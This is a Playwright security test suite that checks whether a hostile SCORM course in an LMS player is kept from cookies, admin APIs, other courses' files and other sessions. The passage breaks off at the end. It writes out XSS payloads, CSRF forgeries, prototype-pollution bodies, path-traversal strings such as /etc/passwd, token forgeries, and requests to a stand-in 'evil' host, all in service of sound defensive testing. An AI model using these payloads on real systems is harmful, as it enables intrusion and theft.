import { createServer, type IncomingMessage, request as httpRequest, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { UnitOfWork } from '../../src/platform/database/unit-of-work';
import { recorded, RelayWorld, setCalls } from '../relay/dispatch-in-lms';
import { inChromium, until, watch } from '../support/browser';
import { enterConsole, openPage, withAdministrator } from '../support/console-pages';
import { importCourse } from '../support/courses';
import { makeScorm12Zip, scorm12Manifest } from '../support/make/course-packages';
import { courseFrame } from './chromium';
import { launchLink, look, register } from './learner';

const markup = `</title><script>top.harmed=1</script><img src=x onerror="top.harmed=1">`;

/** What a hostile course brings along: a script for the player's own page, service workers, a picture that runs. */
const hostileFiles = [
  { name: 'inject.js', data: 'window.injected = { run: function (name, value) { if (name === "opener") opener.location = value; if (name === "say") value.forEach(function (m) { var c = new MessageChannel(); top.frames[0].frames[0].postMessage(m, "*", [c.port2]); c.port1.onmessage = function (e) { injected.got.push(e.data); }; injected.ports.push(c.port1); }); }, got: [], ports: [] };' },
  { name: 'sw.js', data: 'self.addEventListener("fetch", function (e) { e.respondWith(new Response("taken over")); });' },
  { name: 'evil.svg', data: '<svg xmlns="http://www.w3.org/2000/svg"><script>top.harmed=1</script></svg>' },
];
const hostileZip = () => makeScorm12Zip({ title: markup, extraFiles: hostileFiles });

/** Reads something a course must not have; answers what it got or how it was refused. */
const tryIn = (frame: Frame | Page, code: string): Promise<string> =>
  frame.evaluate(`Promise.resolve().then(async () => { ${code} }).then((got) => 'got ' + String(got), (error) => 'refused ' + error.name)`) as Promise<string>;

/** Another site, which keeps what browsers send it. */
class OtherSite {
  readonly seen: { url: string; referer: string; text: string }[] = [];
  private readonly server = createServer((request, response) => {
    this.seen.push({ url: request.url ?? '', referer: request.headers.referer ?? '', text: JSON.stringify(request.headers) });
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Portal</title><h1>Portal</h1>');
  });
  start = () => new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
  stop = () => {
    this.server.closeAllConnections();
    this.server.close();
  };
  url = (host: string) => `http://${host}.test:${(this.server.address() as AddressInfo).port}/`;
}

inChromium('a hostile course', () => {
  let world: RelayWorld;
  let tenant: { api: typeof world.courseway.api };
  const site = new OtherSite();
  let count = 0;

  beforeAll(async () => {
    await site.start();
    world = await RelayWorld.start(withAdministrator);
    await importCourse(world.courseway, 'hostile', await hostileZip());
    await importCourse(world.courseway, 'other', await makeScorm12Zip({ title: 'Other course', extraFiles: [{ name: 'secret.txt', data: 'secret of another course' }] }));
    tenant = await world.courseway.otherTenant();
    await importCourse(tenant, 'theirs', await makeScorm12Zip({ title: 'Their course', extraFiles: [{ name: 'secret.txt', data: 'secret of another tenant' }] }));
  });
  afterEach(() => world.tidy());
  afterAll(async () => {
    await world?.stop();
    site.stop();
  });

  /** The hostile course at work, opened by a real launch link. */
  async function launched(context?: BrowserContext): Promise<{ context: BrowserContext; page: Page; course: Frame; id: string }> {
    const used = context ?? (await world.context());
    const id = `evil-${++count}`;
    await register(world.courseway, 'hostile', id);
    const page = await used.newPage();
    await page.goto(await launchLink(world.courseway, id));
    return { context: used, page, course: await courseFrame(page), id };
  }
  /** A script of the course in the player's own page: one origin, so nothing can keep it out. */
  async function inject(course: Frame, page: Page | Frame): Promise<void> {
    await course.evaluate("void parent.document.head.append(Object.assign(parent.document.createElement('script'), { src: new URL('inject.js', location).href }))");
    await until(() => page.evaluate('typeof injected'), (type) => type === 'object');
  }
  const tokenOf = (page: Page) => page.url().split('/play/')[1] ?? '';
  const publicUrl = () => world.courseway.publicUrl;
  const versionOf = async (courseId: string) => {
    const unit = world.courseway.get(UnitOfWork);
    const [row] = await unit.run(() => unit.query<{ v: string }>('SELECT newest_version_key AS v FROM courses WHERE id = ?', [courseId]));
    return row?.v ?? '';
  };
  /** A path as it is written: no URL parser straightens it. */
  const raw = (path: string): Promise<{ status: number; body: string }> =>
    new Promise((resolve, reject) => {
      const { hostname, port } = new URL(world.courseway.contentUrl);
      httpRequest({ hostname, port, path }, (answer) => {
        let body = '';
        answer.on('data', (chunk) => (body += chunk)).on('end', () => resolve({ status: answer.statusCode ?? 0, body }));
      }).on('error', reject).end();
    });

  test('has no cookie and no storage of the public origin, and can set none', async () => {
    const context = await world.context();
    await context.addCookies([{ name: 'console', value: 'secret', url: publicUrl(), sameSite: 'Lax' }]);
    const home = await context.newPage();
    await home.goto(`${publicUrl()}/`);
    await home.evaluate("localStorage.setItem('kept', 'secret'); indexedDB.open('kept')");
    const { course } = await launched(context);
    expect(await course.evaluate('document.cookie + JSON.stringify(Object.entries(localStorage)) + JSON.stringify(Object.entries(sessionStorage))')).not.toContain('secret');
    expect(await course.evaluate('indexedDB.databases().then((all) => all.length)')).toBe(0);
    for (const domain of ['localhost', '.localhost', new URL(publicUrl()).host]) await course.evaluate(`void (document.cookie = 'planted=1; path=/; domain=${domain}')`);
    for (const code of [`return (await fetch('${publicUrl()}/', { credentials: 'include' })).text()`, `const f = document.createElement('iframe'); f.src = '${publicUrl()}/'; document.body.append(f); await new Promise((r) => (f.onload = r)); return f.contentWindow.localStorage.getItem('kept')`, `const w = window.open('${publicUrl()}/'); await new Promise((r) => setTimeout(r, 500)); return w.document.cookie`])
      expect(await tryIn(course, code)).toMatch(/^refused/);
    expect(await context.cookies(publicUrl())).toMatchObject([{ name: 'console', value: 'secret' }]);
    expect(await home.evaluate('JSON.stringify(Object.entries(localStorage))')).toBe('[["kept","secret"]]');
  });

  test('cannot use what the browser knows of an administrator: the API lets no other site in', async () => {
    const { applicationId, secret } = world.courseway;
    const context = await world.context({ extraHTTPHeaders: { authorization: `Basic ${Buffer.from(`${applicationId}:${secret}`).toString('base64')}` } }); // as if it had been asked for the password before
    const home = await context.newPage();
    expect((await home.goto(`${publicUrl()}/api/v2/courses`))?.status()).toBe(200);
    const { course, page } = await launched(context);
    const api = `${publicUrl()}/api/v2`;
    const before = await (await world.courseway.api('/courses')).text();
    expect(await tryIn(course, `return (await fetch('${api}/courses', { credentials: 'include' })).text()`)).toMatch(/^refused/);
    expect(await tryIn(course, `return (await fetch('${api}/courses/other', { method: 'DELETE', credentials: 'include' })).status`)).toMatch(/^refused/);
    const answers: number[] = [];
    context.on('response', (response) => {
      if (response.request().method() === 'POST' && response.url().startsWith(api)) answers.push(response.status());
    });
    const target = `${api}/courses/importJobs?courseId=planted`;
    await course.evaluate(`(async () => {
      for (const type of ['text/plain', 'application/x-www-form-urlencoded']) await fetch('${target}', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body: 'url=${encodeURIComponent(site.url('evil'))}' }).catch(() => 0);
      navigator.sendBeacon('${target}', new URLSearchParams({ url: '${site.url('evil')}' }));
      for (const target of ['hidden', '_blank', '_top']) {
        const form = Object.assign(document.createElement('form'), { method: 'post', action: '${target}', target });
        form.innerHTML = '<input name=url value="${site.url('evil')}"><iframe name=hidden></iframe>';
        document.body.append(form); form.submit();
        await new Promise((r) => setTimeout(r, 300));
      }
    })()`).catch(() => undefined); // the last one leads the page away
    await until(() => answers.length, (all) => all >= 5);
    expect(answers.filter((status) => status < 400)).toEqual([]);
    expect(page.isClosed()).toBe(false);
    expect(await (await world.courseway.api('/courses')).text()).toBe(before);
    const unit = world.courseway.get(UnitOfWork);
    expect(await unit.run(() => unit.query("SELECT job_id FROM import_jobs WHERE course_id = 'planted'"))).toEqual([]);
  });

  test('frames neither the API nor the mailbox nor a page that a person acts on', async () => {
    const { applicationId, secret } = world.courseway;
    const context = await world.context({ httpCredentials: { username: applicationId, password: secret, origin: publicUrl() } });
    const { course, page } = await launched(context);
    for (const path of ['/api/v2/courses', '/api/v2/ping', '/dev/mailbox', '/dev/mailbox/messages', '/livez', '/no-such-page', '/console', '/console/sign-in', '/console/api/session', '/console/first/token', '/docs', '/reports', '/diagnosis', '/invitations/links', '/d/dispatch/popup']) {
      await course.evaluate(`new Promise((resolve) => { const f = Object.assign(document.createElement('iframe'), { src: '${publicUrl()}${path}', name: 'framed', onload: resolve }); document.querySelectorAll('[name=framed]').forEach((old) => old.remove()); document.body.append(f); })`);
      const framed = await until(() => page.frames().find((frame) => frame.name() === 'framed')?.url(), (url) => url?.startsWith('chrome-error:') || url?.startsWith('http'));
      expect([path, framed]).toEqual([path, expect.stringMatching(/^chrome-error:/)]);
    }
  });

  test('has nothing of an administrator who is signed in to the console', async () => {
    const context = await world.context();
    const home = await context.newPage();
    await enterConsole(home, world.courseway, '/console/administrators');
    const cookies = await context.cookies(publicUrl());
    expect(cookies).toMatchObject([{ httpOnly: true, sameSite: 'Strict' }]);
    const { course, page } = await launched(context);
    const paths = ['/console/api/session', '/console/api/applications', '/console/api/administrators', '/console/api/audit', '/api/v2/courses', '/dev/mailbox/messages'];
    for (const path of paths) expect([path, await tryIn(course, `return (await fetch('${publicUrl()}${path}', { credentials: 'include' })).text()`)]).toEqual([path, expect.stringMatching(/^refused/)]);
    const forged: [path: string, body: string][] = [
      ['/console/api/applications', '{"name":"planted","x":"'], ['/console/api/administrators', '{"email":"evil@x.example","name":"Evil","installation":true,"x":"'], ['/console/api/sign-in', '{"email":"evil@x.example","password":"x","x":"'], ['/console/api/sign-out', '{"x":"'], ['/api/v2/dispatch/destinations', '{"destinations":[],"x":"'],
    ];
    const arrived: { path: string; status: number; cookie: string }[] = []; // as the server saw them: browsers tell no page what became of a forged form
    const server = world.courseway.app.getHttpServer() as Server;
    const note = (request: IncomingMessage, response: ServerResponse) => response.on('finish', () => request.method === 'POST' && arrived.push({ path: request.url ?? '', status: response.statusCode, cookie: request.headers.cookie ?? '' }));
    server.on('request', note);
    const sibling = await context.newPage(); // content on a sibling domain is of the same site: its forms bring the cookie along
    await sibling.goto(`http://localhost:${new URL(site.url('sibling')).port}/`);
    for (const [from, bringsCookie] of [[course, false], [sibling, true]] as const) {
      arrived.length = 0;
      for (const [n, [path, body]] of forged.entries())
        await from.evaluate(`(async () => {
          const [address, body, target] = ${JSON.stringify([publicUrl() + path, body, `sink${n}`])};
          await fetch(address, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: body + '"}' }).catch(() => 0);
          navigator.sendBeacon(address, body + '"}');
          const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: address, target });
          form.append(Object.assign(document.createElement('input'), { name: body, value: '"}' }));
          document.body.append(Object.assign(document.createElement('iframe'), { name: target }), form);
          form.submit();
        })()`);
      for (const [path] of forged) await until(() => arrived.filter((one) => one.path === path).length, (count) => count >= 3);
      expect(arrived.filter(({ status }) => status < 400 || status >= 500)).toEqual([]);
      expect(new Set(arrived.map(({ cookie }) => cookie.includes('courseway_console=')))).toEqual(new Set([bringsCookie]));
    }
    server.off('request', note);
    expect(await context.cookies(publicUrl())).toEqual(cookies);
    await openPage(home, world.courseway, '/console/administrators');
    expect(await home.getByText(/planted|evil@x\.example/i).count()).toBe(0);
    expect(await home.getByRole('button', { name: 'New administrator' }).count()).toBe(1); // still signed in
    await page.close();
  });

  test('opens a window of the console without a hold on it, and is not held by the console itself', async () => {
    const context = await world.context();
    const home = await context.newPage();
    await enterConsole(home, world.courseway, '/console/courses/hostile');
    const { course } = await launched(context);
    const [opened] = await Promise.all([context.waitForEvent('page'), course.evaluate(`void (window.held = window.open('${publicUrl()}/console/courses', 'held'))`)]);
    await until(() => opened.url(), (url) => url.includes('/console'));
    await until(() => course.evaluate('held.closed')); // for the course it is as if the window had gone
    for (const code of [`held.location = '${site.url('astray')}'; return held.document.title`, `held.postMessage({}, '*'); return held.document.title`, 'return held.localStorage.length']) await tryIn(course, code);
    await course.evaluate(`held.location = '${site.url('astray')}'`).catch(() => undefined);
    expect(await opened.evaluate('String(window.opener)')).toBe('null');
    await opened.waitForTimeout(300);
    expect(opened.url().startsWith(`${publicUrl()}/console`)).toBe(true);
    await home.getByRole('button', { name: 'Preview' }).click();
    const [preview] = await Promise.all([context.waitForEvent('page'), home.getByRole('link', { name: 'Open the preview' }).click()]);
    const inside = await courseFrame(preview);
    expect(await inside.evaluate('[String(window.opener), String(parent.opener), String(top.opener), document.referrer]')).toEqual(['null', 'null', 'null', expect.not.stringContaining(publicUrl())]);
  });

  test('finds nothing of a learner’s other courses in what all of them share, once their results are home', async () => {
    const context = await world.context();
    await register(world.courseway, 'other', 'earlier');
    const page = await context.newPage();
    await page.goto(await launchLink(world.courseway, 'earlier'));
    const earlier = await courseFrame(page);
    const token = tokenOf(page);
    await earlier.click('#bookmark');
    await until(() => look(world.courseway, 'earlier'), (seen) => JSON.stringify(seen).includes('page-3'));
    await page.getByRole('button', { name: 'Exit' }).click();
    await page.waitForURL(/\/launch\/exit\/message/);
    await register(world.courseway, 'hostile', 'later');
    await page.goto(await launchLink(world.courseway, 'later')); // in the same tab
    const course = await courseFrame(page);
    const shared = String(await course.evaluate(`(async () => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), await (window.caches ? caches.keys() : []), window.name, top.name, history.state, document.referrer, performance.getEntriesByType('navigation').map(({ name }) => name)]))()`));
    for (const secret of [token, token.split('.')[0] ?? '', 'page-3', 'state-3', 'earlier', 'Lovelace']) expect(shared).not.toContain(secret);
  });

  test('is given no device, no payment, no key and no clipboard of the learner, wherever it runs', async () => {
    const { course, page } = await launched();
    const made = await world.dispatchInLms('strict-1.2', { course: await hostileZip() });
    const visit = await made.open({ id: 'anna' });
    const withheld = ['bluetooth', 'clipboard-read', 'display-capture', 'geolocation', 'hid', 'midi', 'payment', 'publickey-credentials-create', 'publickey-credentials-get', 'serial', 'usb', 'window-management'];
    for (const frame of [course, page.mainFrame(), await visit.course(), await visit.player(), await visit.shell()])
      expect(await frame.evaluate(`${JSON.stringify(withheld)}.filter((feature) => document.featurePolicy.allowsFeature(feature))`)).toEqual([]);
    expect(await course.evaluate("['fullscreen', 'autoplay', 'clipboard-write', 'camera', 'microphone'].filter((feature) => document.featurePolicy.allowsFeature(feature))")).toHaveLength(5); // what courses need; the browser asks the learner
    expect(await tryIn(course, 'return navigator.clipboard.readText()')).toMatch(/^refused/);
  });

  test('brings nothing into the server’s own objects by the names in what it saves', async () => {
    const { course, page, id } = await launched();
    const bodies = [
      '{"activityId":"__proto__","revision":50,"seconds":1,"cmi":{"cmi.core.lesson_status":"passed"}}', '{"activityId":"constructor","revision":51,"seconds":1,"cmi":{"cmi.core.lesson_status":"passed"}}',
      '{"activityId":"ITEM-1","revision":52,"seconds":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"cmi":{"__proto__":{"polluted":"1"},"cmi.__proto__.polluted":"1","cmi.constructor.prototype.polluted":"1"}}',
      '{"activityId":"ITEM-1","revision":53,"seconds":1,"cmi":{"cmi.interactions.__proto__.id":"polluted","cmi.objectives.constructor.prototype.polluted":"1"},"globalObjectives":{"__proto__":{"polluted":1}},"sequencing":{"__proto__":{"polluted":1}}}',
    ];
    for (const body of bodies) expect(Number(await course.evaluate(`fetch('/play/${tokenOf(page)}/commits', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(body)} }).then((answer) => answer.status)`))).toBeLessThan(500);
    expect([({} as { polluted?: unknown }).polluted, ([] as unknown as { polluted?: unknown }).polluted, (Object as { polluted?: unknown }).polluted]).toEqual([undefined, undefined, undefined]);
    expect(await look(world.courseway, id)).toMatchObject({ registrationSuccess: 'UNKNOWN' });
  });

  test('reaches neither the page that opened it nor the one that frames it', async () => {
    const context = await world.context();
    const portal = await context.newPage();
    await portal.goto(site.url('portal'));
    await register(world.courseway, 'hostile', 'evil-opened');
    const link = await launchLink(world.courseway, 'evil-opened');
    const [popup] = await Promise.all([portal.waitForEvent('popup'), portal.evaluate(`void window.open('${link}', 'course')`)]);
    const course = await courseFrame(popup);
    await inject(course, popup);
    for (const code of ['return parent.opener.document.title', `parent.opener.location = '${site.url('astray')}'`, `parent.opener.location.replace('${site.url('astray')}')`, `window.opener.location = '${site.url('astray')}'`]) expect(await tryIn(course, code)).toMatch(/^refused/);
    expect(await tryIn(popup, `injected.run('opener', '${site.url('astray')}')`)).toMatch(/^refused/);
    const framing = await context.newPage();
    await framing.goto(site.url('portal'));
    await register(world.courseway, 'hostile', 'evil-framed');
    await framing.evaluate(`document.body.innerHTML = '<iframe src="${await launchLink(world.courseway, 'evil-framed')}" width=900 height=600></iframe>'`);
    const player = await until(() => framing.frames().find((frame) => frame.url().includes('/play/')) as Frame);
    const inner = await until(() => player.childFrames().find((frame) => frame.url().includes('/content/')) as Frame);
    await inner.waitForLoadState('load');
    for (const code of ['return top.document.title', 'return top.localStorage.length']) expect(await tryIn(inner, code)).toMatch(/^refused/);
    expect(await tryIn(inner, 'return String(parent.parent === parent)')).toBe('got true'); // the walk up ends at the player
    expect([portal.url(), framing.url()]).toEqual([site.url('portal'), site.url('portal')]);
    expect(site.seen.some(({ text }) => text.includes('astray.test'))).toBe(false);
  });

  test('does not keep a window from closing behind it', async () => {
    const context = await world.context();
    const portal = await context.newPage();
    await portal.goto(site.url('portal'));
    await register(world.courseway, 'hostile', 'closes');
    const answer = await world.courseway.api('/registrations/closes/launchLink', { method: 'POST', body: { redirectOnExitUrl: 'closer' } });
    const { launchLink: link } = (await answer.json()) as { launchLink: string };
    const [popup] = await Promise.all([portal.waitForEvent('popup'), portal.evaluate(`void (window.handle = window.open('${link}', 'course'))`)]);
    await courseFrame(popup);
    expect(await portal.evaluate('handle.closed')).toBe(false);
    await popup.getByRole('button', { name: 'Exit' }).click();
    await until(() => popup.isClosed());
    expect(await portal.evaluate('handle.closed')).toBe(true);
  });

  test('registers no service worker', async () => {
    const { course, page, context } = await launched();
    const asset = await page.evaluate("document.querySelector('script[src]').src");
    const scripts = ['sw.js', asset, "data:text/javascript,self.onfetch=()=>0", "URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))", `/play/${tokenOf(page)}`];
    for (const script of scripts)
      for (const scope of [undefined, '/', '/play/', '/content/', '/player/', './']) {
        const address = String(script).startsWith('URL.') ? script : JSON.stringify(script);
        expect([script, scope, await tryIn(course, `return (await navigator.serviceWorker.register(${address}${scope ? `, { scope: '${scope}' }` : ''})).scope`)]).toEqual([script, scope, expect.stringMatching(/^refused/)]);
      }
    for (const type of ['classic', 'module']) expect(await tryIn(course, `return (await navigator.serviceWorker.register('sw.js', { type: '${type}' })).scope`)).toMatch(/^refused/);
    expect(await course.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')).toBe(0);
    expect(context.serviceWorkers()).toEqual([]);
  });

  test('reads no file but those of its own course', async () => {
    const { course } = await launched();
    const own = new URL(course.url()).pathname.split('/')[2] ?? '';
    const [body = '', mac = ''] = own.split('.');
    const foreign = [await versionOf('other'), await versionOf('theirs')];
    expect(foreign.every((key) => key.length === 26)).toBe(true);
    const retold = (key: string) => `${Buffer.from(JSON.stringify({ ...(JSON.parse(Buffer.from(body, 'base64url').toString()) as object), v: key })).toString('base64url')}.${mac}`;
    const unsigned = (key: string) => Buffer.from(JSON.stringify({ v: key, exp: 99_999_999_999 })).toString('base64url');
    const paths = foreign.flatMap((key) => [
      `/content/${retold(key)}/secret.txt`, `/content/${unsigned(key)}/secret.txt`, `/content/${unsigned(key)}./secret.txt`, `/content/${key}/secret.txt`,
      ...['..', '%2e%2e', '%2E.', '..%2f..', '%2e%2e%2f%2e%2e', '..%5c..', '..\\..', '....//..', '%252e%252e', '..;', '%c0%ae%c0%ae'].flatMap((up) => [
        `/content/${own}/${up}/${up}/${key}/content/secret.txt`, `/content/${own}/${up}/${key}/content/secret.txt`, `/content/${own}/${up}/courses/${key}/content/secret.txt`,
      ]),
    ]);
    const files = ['index.json', 'package.zip'].flatMap((name) => [`/content/${own}/${name}`, `/content/${own}/../${name}`, `/content/${own}/%2e%2e/${name}`, `/content/${own}/..%2f${name}`, `/content/${own}/content/../../${name}`]);
    for (const path of [...paths, ...files, `/content/${own}//etc/passwd`, `/content/${own}/%2fetc%2fpasswd`, `/content/${own}/..%2f..%2f..%2f..%2fcourseway.sqlite`, `/content/${own}/__proto__`, `/content/${own}/constructor`]) {
      const answer = await raw(path);
      expect([path, answer.status >= 400, answer.body.includes('secret of')]).toEqual([path, true, false]);
      expect([path, await tryIn(course, `const answer = await fetch(${JSON.stringify(path)}); return answer.ok`)]).toEqual([path, expect.stringMatching(/^got false|^refused/)]);
    }
    expect((await raw(`/content/${own}/sco.js`)).status).toBe(200);
  });

  test('with the token of its own session it gets at no other one', async () => {
    await register(world.courseway, 'other', 'victim');
    const { course, page, id } = await launched();
    const token = tokenOf(page);
    const [body = '', mac = ''] = token.split('.');
    const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>;
    const unit = world.courseway.get(UnitOfWork);
    const [victim] = await unit.run(() => unit.query<{ r: string; i: string; v: string }>("SELECT r.registration_key AS r, i.instance_key AS i, i.version_key AS v FROM registrations r JOIN registration_instances i ON i.registration_key = r.registration_key WHERE r.id = 'victim'"));
    const file = new URL(course.url()).pathname.split('/')[2] ?? '';
    const link = (await launchLink(world.courseway, 'victim')).split('/launch/')[1] ?? '';
    const encoded = (more: object) => Buffer.from(JSON.stringify({ ...claims, ...more })).toString('base64url');
    const tokens = [`${encoded({ ...victim })}.${mac}`, `${encoded({ r: '' })}.${mac}`, `${encoded({ m: 'preview' })}.${mac}`, `${encoded({ ...victim })}.`, encoded({ ...victim }), `${encoded({ ...victim })}.${mac}.`, file, link, `${body}.${mac.slice(0, -1)}`, `${token}%00`, `${token}/`, `${token}=`];
    const commit = { activityId: 'ITEM-1', revision: 99, seconds: 5, cmi: { 'cmi.core.lesson_status': 'passed' }, registrationKey: victim?.r, instanceKey: victim?.i, epoch: 99, a: 'OTHERAPP' };
    for (const forged of tokens) {
      expect([forged, await tryIn(course, `return (await fetch('/play/${forged}')).ok`)]).toEqual([forged, 'got false']);
      expect([forged, await tryIn(course, `return (await fetch('/play/${forged}/commits', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '${JSON.stringify(commit)}' })).ok`)]).toEqual([forged, 'got false']);
    }
    const own = (await course.evaluate(`fetch('/play/${token}/commits', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '${JSON.stringify(commit)}' }).then((answer) => answer.status)`)) as number;
    expect([200, 400]).toContain(own); // about itself a course may say what it likes
    expect(await look(world.courseway, 'victim')).toMatchObject({ registrationCompletion: 'UNKNOWN', registrationSuccess: 'UNKNOWN' });
    expect((await look(world.courseway, id)).registrationSuccess).toBe(own === 200 ? 'PASSED' : 'UNKNOWN');
  });

  test('runs nothing by a javascript: address, a title or a picture, neither in the player nor on the public origin', async () => {
    const manifest = scorm12Manifest({ title: markup }).replace('href="sco1.html"><', 'href="javascript:top.harmed=1"><');
    const job = await importCourse(world.courseway, 'scripted', await makeScorm12Zip({ manifest, extraFiles: hostileFiles }));
    const context = await world.context();
    if (job.status === 'COMPLETE') {
      await register(world.courseway, 'scripted', 'scripted');
      const page = await context.newPage();
      await page.goto(await launchLink(world.courseway, 'scripted'));
      await page.locator('iframe.course').waitFor();
      expect(await page.locator('iframe.course').getAttribute('src')).toMatch(/^\/content\//);
      expect(await page.evaluate('window.harmed')).toBeUndefined();
    }
    await register(world.courseway, 'hostile', 'leaves');
    const answer = await world.courseway.api('/registrations/leaves/launchLink', { method: 'POST', body: { redirectOnExitUrl: 'javascript:top.harmed=1' } });
    const page = await context.newPage();
    const seen = watch(context);
    await page.goto(((await answer.json()) as { launchLink: string }).launchLink);
    const course = await courseFrame(page);
    expect(await page.title()).toBe(markup);
    await course.evaluate("void (parent.location = 'javascript:top.harmed=1')");
    await course.evaluate("void parent.document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"top.harmed=1\"><iframe srcdoc=\"<script>top.harmed=1</script>\"></iframe>')");
    await until(() => seen.errors.join(), (errors) => errors.includes('javascript:') || errors.includes('Content Security Policy'));
    await course.evaluate("document.body.append(Object.assign(document.createElement('img'), { src: 'evil.svg' }))");
    expect(await page.evaluate('window.harmed')).toBeUndefined();
    await page.getByRole('button', { name: 'Exit' }).click();
    await page.waitForURL(/\/launch\/exit\/message/);
    expect(page.url().startsWith(publicUrl())).toBe(true);
    expect(await page.evaluate('window.harmed')).toBeUndefined();
    const opened = await launched(context);
    for (const code of [`const w = window.open('${publicUrl()}/', 'w'); await new Promise((r) => setTimeout(r, 500)); w.location = 'javascript:opener.harmed=document.domain'`, `const f = document.createElement('iframe'); f.src = '${publicUrl()}/'; document.body.append(f); await new Promise((r) => (f.onload = r)); f.contentWindow.location = 'javascript:top.harmed=document.domain'`])
      await tryIn(opened.course, code);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await opened.course.evaluate('[window.harmed, top.harmed].join()')).not.toContain('localhost');
  });

  test('another site learns no session from what the browser sends along', async () => {
    const { course, page } = await launched();
    const token = tokenOf(page);
    site.seen.length = 0;
    const evil = site.url('evil');
    await course.evaluate(`(async () => {
      for (const policy of ['', 'unsafe-url', 'no-referrer-when-downgrade']) {
        document.body.append(Object.assign(document.createElement('img'), { referrerPolicy: policy, src: '${evil}img-' + policy }));
        document.body.append(Object.assign(document.createElement('iframe'), { referrerPolicy: policy, src: '${evil}frame-' + policy }));
        await fetch('${evil}fetch-' + policy, { mode: 'no-cors', referrerPolicy: policy }).catch(() => 0);
        await parent.fetch('${evil}parent-' + policy, { mode: 'no-cors', referrerPolicy: policy }).catch(() => 0);
        parent.document.body.append(Object.assign(parent.document.createElement('img'), { referrerPolicy: policy, src: '${evil}injected-' + policy }));
      }
      window.open('${evil}window');
    })()`);
    await until(() => site.seen.map(({ url }) => url).sort(), (urls) => ['/img-', '/img-unsafe-url', '/frame-unsafe-url', '/fetch-unsafe-url', '/window'].every((url) => urls.includes(url)));
    expect(site.seen.filter(({ text }) => text.includes(token) || text.includes('/play/') || text.includes(publicUrl()))).toEqual([]);
    expect(site.seen.filter(({ url }) => url === '/img-' || url === '/frame-' || url === '/window').map(({ referer }) => referer)).toEqual(Array(3).fill(`${world.courseway.contentUrl}/`));
  });

  test('in a client’s LMS it cannot speak for the player: what it forges in its name changes no result', async () => {
    const made = await world.dispatchInLms('strict-1.2', { course: await hostileZip() });
    const visit = await made.open({ id: 'anna' });
    const [course, player] = [await visit.course(), await visit.player()];
    await course.waitForSelector('#finish');
    await recorded(made, 'anna', { lesson_status: 'incomplete' });
    await inject(course, player);
    const passed = { epoch: 99, rev: 9999, status: 'passed', active: true, score: { raw: '100', max: '100', min: '0' } };
    const forged = [
      { courseway: 'player', kind: 'changed', rev: 9999, state: passed }, { kind: 'STATE', state: passed }, { kind: 'ACK', rev: 9999, commit: true, status: 'passed' }, { kind: 'WELCOME', state: passed },
      { kind: 'flushed', id: 1, rev: 9999 }, { kind: 'EXIT', state: passed }, { kind: 'stop', reason: 'opened-elsewhere' }, { kind: 'flush', id: 1 },
    ];
    await course.evaluate(`for (const message of ${JSON.stringify(forged)}) parent.postMessage(message, '*')`);
    await course.evaluate(`for (const message of ${JSON.stringify(forged)}) top.frames[0].frames[0].postMessage(message, '*')`);
    expect(await tryIn(course, 'return top.frames[0].frames[0].document.title')).toMatch(/^refused/);
    await visit.press('complete');
    await recorded(made, 'anna', { lesson_status: 'completed' });
    await player.evaluate(`injected.run('say', ${JSON.stringify([{ courseway: 'player', v: 1, rev: 9999, state: passed }, ...forged])})`); // now the line to the shell is its own
    await player.evaluate(`injected.ports.forEach((port) => ${JSON.stringify(forged)}.forEach((message) => port.postMessage(message)))`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(await player.evaluate('injected.got')).toEqual([]);
    expect(setCalls(visit.calls()).filter((call) => /=passed|Finish|score/.test(call))).toEqual([]);
    expect((await made.rows())[0]).toMatchObject({ completion: 'COMPLETED', success: 'UNKNOWN', score: null });
  });

  test('in a client’s LMS it reaches no more than where a link opened it', async () => {
    const context = await world.context();
    const home = await context.newPage();
    await enterConsole(home, world.courseway);
    const made = await world.dispatchInLms('strict-1.2', { course: await hostileZip() });
    const visit = await made.open({ id: 'anna' }, context);
    const course = await visit.course();
    const foreign = [await versionOf('other'), await versionOf('theirs')];
    const token = new URL((await visit.player()).url()).pathname.split('/play/')[1] ?? '';
    const attempts = [
      'return top.document.title', 'return top.document.cookie', 'return top.API.LMSSetValue("cmi.core.lesson_status", "passed")', 'return top.localStorage.length', 'return top.frames[0].location.href', 'return top.frames[0].frames[0].location.href', 'return top.frames[0].document.body.innerHTML',
      `return (await fetch('${publicUrl()}/api/v2/courses', { credentials: 'include' })).text()`, `return (await fetch('${publicUrl()}/console/api/session', { credentials: 'include' })).text()`,
      "return (await navigator.serviceWorker.register('sw.js')).scope", "return (await navigator.serviceWorker.register('/sw.js', { scope: '/' })).scope", ...foreign.map((key) => `const answer = await fetch('/content/${key}/secret.txt'); if (!answer.ok) throw new DOMException('', 'NotFoundError'); return answer.text()`),
    ];
    for (const code of attempts) expect([code, await tryIn(course, code)]).toEqual([code, expect.stringMatching(/^refused|^got undefined$/)]);
    const relay = (path: string, body: string) => tryIn(course, `return (await fetch('${publicUrl()}/api/d/${made.d}/${path}', { method: 'POST', body: ${JSON.stringify(body)} })).text()`); // packages call it from anywhere; what opens it is not in the player
    for (const answer of [await relay('relay', JSON.stringify({ token, ack: { rev: 1, commit: true } })), await relay('launch', JSON.stringify({ v: 1, k: token, launchId: 'x'.repeat(20), learner: { id: 'ben', name: '' } }))]) expect(answer).not.toMatch(/"token"|"state"|welcome/);
    expect(await course.evaluate('document.cookie')).toBe('');
    expect(await course.evaluate('[document.referrer, parent.document.referrer].join()')).not.toMatch(/\/d\/|\/package\/|\/lms\/|#|k=/);
